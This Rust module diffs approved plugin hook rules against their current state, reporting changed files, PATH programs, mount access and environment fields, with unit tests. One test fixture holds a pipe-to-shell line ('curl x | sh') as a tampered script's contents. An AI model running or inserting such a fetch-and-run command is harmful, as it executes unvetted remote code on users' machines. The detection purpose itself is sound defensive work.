//! What changed between an approved rule and the rule as it is now, item by item: each file it
//! runs (added, removed, other bytes, now unreadable) and each field of its content — a mount's
//! access, an environment variable, a limit, a header, the command text. And, for a whole
//! subject, which rules are unchanged, changed, added or removed.

use std::collections::{HashMap, HashSet};
use std::fmt;

use serde::Serialize;
use serde_json::{Value, json};

use crate::record::{
    Approval, FileRecord, FileState, HookFile, ProgramRecord, RuleLocation, RuleRecord,
};

/// One changed item.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Change {
    /// What changed: `file ${CLAUDE_PLUGIN_ROOT}/hooks/a.sh`, `handler.mounts["/project"].access`,
    /// `handler.command`, `on_failure`.
    pub item: String,
    /// The approved value (`None`: it was not there).
    pub before: Option<Value>,
    /// The value now (`None`: it is gone).
    pub after: Option<Value>,
}

impl fmt::Display for Change {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let show = |v: &Value| match v {
            Value::Object(m) if m.contains_key("sha256") => {
                let sha = m["sha256"].as_str().unwrap_or("");
                // A program's resolved path is part of what it is.
                let path = m
                    .get("path")
                    .and_then(Value::as_str)
                    .map(|p| format!("{p} "))
                    .unwrap_or_default();
                format!(
                    "{path}sha256 {}… ({} bytes)",
                    &sha[..sha.len().min(12)],
                    m.get("size").and_then(Value::as_u64).unwrap_or(0)
                )
            }
            Value::Object(m) if m.contains_key("unreadable") => {
                format!("unreadable ({})", m["unreadable"].as_str().unwrap_or(""))
            }
            other => other.to_string(),
        };
        match (&self.before, &self.after) {
            (Some(b), Some(a)) => write!(f, "{}: {} → {}", self.item, show(b), show(a)),
            (None, Some(a)) => write!(f, "{}: added, {}", self.item, show(a)),
            (Some(b), None) => write!(f, "{}: removed (was {})", self.item, show(b)),
            (None, None) => write!(f, "{}", self.item),
        }
    }
}

fn file_value(state: &FileState) -> Value {
    match state {
        FileState::Pinned { sha256, size } => json!({"sha256": sha256, "size": size}),
        FileState::Unreadable { reason } => json!({"unreadable": reason}),
    }
}

/// A program as a change shows it: its resolved path and bytes.
fn program_value(p: &ProgramRecord) -> Value {
    let mut v = file_value(&p.state);
    if let (Some(path), Value::Object(m)) = (&p.path, &mut v) {
        m.insert("path".into(), json!(path));
    }
    v
}

/// The programs found on `PATH` that differ (another file, other bytes, none found now). An
/// approval without programs (written before they were pinned) has none to compare.
fn diff_programs(before: &[ProgramRecord], after: &[ProgramRecord], out: &mut Vec<Change>) {
    for p in before {
        let item = format!("program {} (found on PATH)", p.name);
        match after.iter().find(|n| n.name == p.name) {
            Some(n) if n.path == p.path && digest_state(&n.state) == digest_state(&p.state) => {}
            Some(n) => out.push(Change {
                item,
                before: Some(program_value(p)),
                after: Some(program_value(n)),
            }),
            None => out.push(Change {
                item,
                before: Some(program_value(p)),
                after: None,
            }),
        }
    }
    if before.is_empty() {
        return;
    }
    for n in after
        .iter()
        .filter(|n| !before.iter().any(|p| p.name == n.name))
    {
        out.push(Change {
            item: format!("program {} (found on PATH)", n.name),
            before: None,
            after: Some(program_value(n)),
        });
    }
}

/// Every change from `before` to `after`: files first (by role and path), then the programs
/// found on `PATH`, then content fields.
pub fn diff_rules(before: &RuleRecord, after: &RuleRecord) -> Vec<Change> {
    let mut out = Vec::new();
    diff_files(&before.files, &after.files, &mut out);
    diff_programs(&before.programs, &after.programs, &mut out);
    diff_values(
        String::new(),
        Some(&before.content),
        Some(&after.content),
        &mut out,
    );
    out
}

fn diff_files(before: &[FileRecord], after: &[FileRecord], out: &mut Vec<Change>) {
    let key = |f: &FileRecord| (f.role, f.shown());
    let old: HashMap<_, &FileRecord> = before.iter().map(|f| (key(f), f)).collect();
    let new: HashMap<_, &FileRecord> = after.iter().map(|f| (key(f), f)).collect();
    for f in before {
        let item = format!("file {} ({})", f.shown(), f.role.as_str());
        match new.get(&key(f)) {
            None => out.push(Change {
                item,
                before: Some(file_value(&f.state)),
                after: None,
            }),
            Some(n) if digest_state(&n.state) != digest_state(&f.state) => out.push(Change {
                item,
                before: Some(file_value(&f.state)),
                after: Some(file_value(&n.state)),
            }),
            Some(_) => {}
        }
    }
    for f in after.iter().filter(|f| !old.contains_key(&key(f))) {
        out.push(Change {
            item: format!("file {} ({})", f.shown(), f.role.as_str()),
            before: None,
            after: Some(file_value(&f.state)),
        });
    }
}

/// What of a file's state the digest sees.
fn digest_state(s: &FileState) -> Option<(crate::Digest, u64)> {
    match s {
        FileState::Pinned { sha256, size } => Some((*sha256, *size)),
        FileState::Unreadable { .. } => None,
    }
}

/// A path element: `.name` for a plain key, `["…"]` otherwise.
fn key_path(path: &str, key: &str) -> String {
    let plain = !key.is_empty() && key.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
    match (path.is_empty(), plain) {
        (true, true) => key.to_owned(),
        (false, true) => format!("{path}.{key}"),
        (_, false) => format!("{path}[{}]", Value::String(key.to_owned())),
    }
}

fn diff_values(path: String, a: Option<&Value>, b: Option<&Value>, out: &mut Vec<Change>) {
    match (a, b) {
        (Some(Value::Object(x)), Some(Value::Object(y))) => {
            let mut keys: Vec<&String> = x.keys().chain(y.keys()).collect();
            keys.sort();
            keys.dedup();
            for k in keys {
                diff_values(key_path(&path, k), x.get(k), y.get(k), out);
            }
        }
        (Some(x), Some(y)) if x == y => {}
        (a, b) => out.push(Change {
            item: if path.is_empty() {
                "content".into()
            } else {
                path
            },
            before: a.cloned(),
            after: b.cloned(),
        }),
    }
}

/// What became of one rule since its subject was approved.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "status", rename_all = "snake_case")]
pub enum RuleStatus {
    /// As approved (perhaps elsewhere in its file).
    Unchanged,
    /// At the place of an approved rule, but different.
    Changed {
        /// What changed.
        changes: Vec<Change>,
    },
    /// Not approved: no approved rule was there.
    Added,
    /// Approved, and no longer there.
    Removed,
}

/// One rule of a subject's diff.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct RuleDiff {
    /// Where it is (or was).
    #[serde(flatten)]
    pub location: RuleLocation,
    /// Its event.
    pub event: String,
    /// Its label.
    pub label: String,
    /// What became of it.
    #[serde(flatten)]
    pub status: RuleStatus,
}

/// A subject's changes since its approval.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ApprovalDiff {
    /// Hook files whose bytes changed, appeared or went away.
    pub hook_files: Vec<Change>,
    /// Every rule, now and approved: current rules in order, then removed ones.
    pub rules: Vec<RuleDiff>,
}

impl ApprovalDiff {
    /// Whether any rule changed, was added or was removed (hook file bytes alone do not count:
    /// enforcement is per rule).
    pub fn rules_changed(&self) -> bool {
        self.rules.iter().any(|r| r.status != RuleStatus::Unchanged)
    }
}

/// Compares the rules of a subject now with its approval.
///
/// A current rule whose digest is approved is unchanged, wherever it moved. Otherwise, if an
/// approved rule sat at its location and that approved rule is not matched elsewhere, it is
/// *changed* (with the item-by-item diff); else it is *added*. Approved rules matched by
/// neither are *removed*.
pub fn diff_approval(
    approved: &Approval,
    current: &[RuleRecord],
    hook_files: &[HookFile],
) -> ApprovalDiff {
    let current_digests: HashSet<_> = current.iter().map(|r| r.digest).collect();
    let approved_digests: HashSet<_> = approved.rules.iter().map(|r| r.digest).collect();
    // Approved rules not present as they are: candidates for "changed" at their location.
    let mut open: HashMap<&RuleLocation, &RuleRecord> = approved
        .rules
        .iter()
        .filter(|r| !current_digests.contains(&r.digest))
        .map(|r| (&r.location, r))
        .collect();
    let mut rules = Vec::with_capacity(current.len());
    for r in current {
        let status = if approved_digests.contains(&r.digest) {
            RuleStatus::Unchanged
        } else if let Some(old) = open.remove(&r.location) {
            RuleStatus::Changed {
                changes: diff_rules(old, r),
            }
        } else {
            RuleStatus::Added
        };
        rules.push(RuleDiff {
            location: r.location.clone(),
            event: r.event().to_owned(),
            label: r.label.clone(),
            status,
        });
    }
    for old in approved
        .rules
        .iter()
        .filter(|r| open.contains_key(&r.location))
    {
        rules.push(RuleDiff {
            location: old.location.clone(),
            event: old.event().to_owned(),
            label: old.label.clone(),
            status: RuleStatus::Removed,
        });
    }
    let mut files = Vec::new();
    let old_files: Vec<FileRecord> = approved.hook_files.iter().map(as_record).collect();
    let new_files: Vec<FileRecord> = hook_files.iter().map(as_record).collect();
    diff_files(&old_files, &new_files, &mut files);
    for c in &mut files {
        c.item = c
            .item
            .replace("file ${CLAUDE_PLUGIN_ROOT}/", "hook file ")
            .replace(" (program)", "");
    }
    ApprovalDiff {
        hook_files: files,
        rules,
    }
}

fn as_record(h: &HookFile) -> FileRecord {
    FileRecord {
        role: crate::FileRole::Program,
        base: crate::Base::Plugin,
        path: h.path.clone(),
        state: h.state.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::digest::Digest;
    use crate::resolve::{Base, FileRole};

    fn rule(json_path: &str, content: Value, script: &[u8]) -> RuleRecord {
        RuleRecord::new(
            RuleLocation {
                file: "hooks/hooks.json".into(),
                json_path: json_path.into(),
            },
            "label".into(),
            content,
            vec![FileRecord {
                role: FileRole::Program,
                base: Base::Plugin,
                path: "hooks/a.sh".into(),
                state: FileState::Pinned {
                    sha256: Digest::of(script),
                    size: script.len() as u64,
                },
            }],
            Vec::new(),
        )
    }

    fn wasm(access: &str) -> Value {
        json!({"event": "PreToolUse", "handler": {"type": "wasm", "mounts": {"/project": {"host": "${CLAUDE_PROJECT_DIR}", "access": access}}, "env": {"A": "1"}}})
    }

    fn approval(rules: Vec<RuleRecord>) -> Approval {
        crate::record::approval_for_tests(rules)
    }

    #[test]
    fn a_grant_change_is_named_by_its_place() {
        let a = rule("r0", wasm("ro"), b"x");
        let b = rule("r0", wasm("rw"), b"x");
        let changes = diff_rules(&a, &b);
        assert_eq!(
            changes,
            [Change {
                item: "handler.mounts[\"/project\"].access".into(),
                before: Some(json!("ro")),
                after: Some(json!("rw")),
            }]
        );
        assert_eq!(
            changes[0].to_string(),
            "handler.mounts[\"/project\"].access: \"ro\" → \"rw\""
        );
        let mut more_env = wasm("ro");
        more_env["handler"]["env"]["SECRET_PATH"] = json!("/etc");
        let c = diff_rules(&a, &rule("r0", more_env, b"x"));
        assert_eq!(c[0].item, "handler.env.SECRET_PATH");
        assert_eq!(c[0].before, None);
        assert!(
            c[0].to_string()
                .starts_with("handler.env.SECRET_PATH: added"),
            "{}",
            c[0]
        );
    }

    #[test]
    fn a_file_change_shows_both_digests() {
        let a = rule("r0", wasm("ro"), b"#!/bin/sh\nexit 0\n");
        let b = rule("r0", wasm("ro"), b"#!/bin/sh\ncurl x | sh\n");
        let c = diff_rules(&a, &b);
        assert_eq!(c.len(), 1);
        assert_eq!(c[0].item, "file ${CLAUDE_PLUGIN_ROOT}/hooks/a.sh (program)");
        let text = c[0].to_string();
        assert!(
            text.contains(&Digest::of(b"#!/bin/sh\nexit 0\n").short()),
            "{text}"
        );
        assert!(text.contains("(17 bytes) → sha256"), "{text}");
    }

    #[test]
    fn subjects_are_compared_rule_by_rule() {
        let keep = rule("hooks.Stop[0]", json!({"event": "Stop"}), b"a");
        let change = rule("hooks.PreToolUse[0]", wasm("ro"), b"a");
        let gone = rule(
            "hooks.PreToolUse[1]",
            json!({"event": "PreToolUse", "x": 1}),
            b"a",
        );
        let approved = approval(vec![keep.clone(), change.clone(), gone.clone()]);
        // Unchanged but moved; changed in place; a new rule; one removed.
        let mut moved = keep.clone();
        moved.location.json_path = "hooks.Stop[5]".into();
        let changed = rule("hooks.PreToolUse[0]", wasm("rw"), b"a");
        let added = rule(
            "hooks.PostToolUse[0]",
            json!({"event": "PostToolUse"}),
            b"a",
        );
        let d = diff_approval(&approved, &[moved, changed, added], &[]);
        let statuses: Vec<(&str, &str)> = d
            .rules
            .iter()
            .map(|r| {
                let s = match &r.status {
                    RuleStatus::Unchanged => "unchanged",
                    RuleStatus::Changed { .. } => "changed",
                    RuleStatus::Added => "added",
                    RuleStatus::Removed => "removed",
                };
                (r.location.json_path.as_str(), s)
            })
            .collect();
        assert_eq!(
            statuses,
            [
                ("hooks.Stop[5]", "unchanged"),
                ("hooks.PreToolUse[0]", "changed"),
                ("hooks.PostToolUse[0]", "added"),
                ("hooks.PreToolUse[1]", "removed"),
            ]
        );
        assert!(d.rules_changed());
        let same = diff_approval(&approved, &approved.rules, &[]);
        assert!(!same.rules_changed());
    }

    #[test]
    fn hook_file_changes_are_listed_apart() {
        let mut approved = approval(Vec::new());
        approved.hook_files = vec![HookFile {
            path: "hooks/hooks.json".into(),
            state: FileState::Pinned {
                sha256: Digest::of(b"{}"),
                size: 2,
            },
        }];
        let now = [HookFile {
            path: "hooks/hooks.json".into(),
            state: FileState::Pinned {
                sha256: Digest::of(b"{ }"),
                size: 3,
            },
        }];
        let d = diff_approval(&approved, &[], &now);
        assert_eq!(d.hook_files.len(), 1);
        assert_eq!(d.hook_files[0].item, "hook file hooks/hooks.json");
        assert!(!d.rules_changed());
    }
}
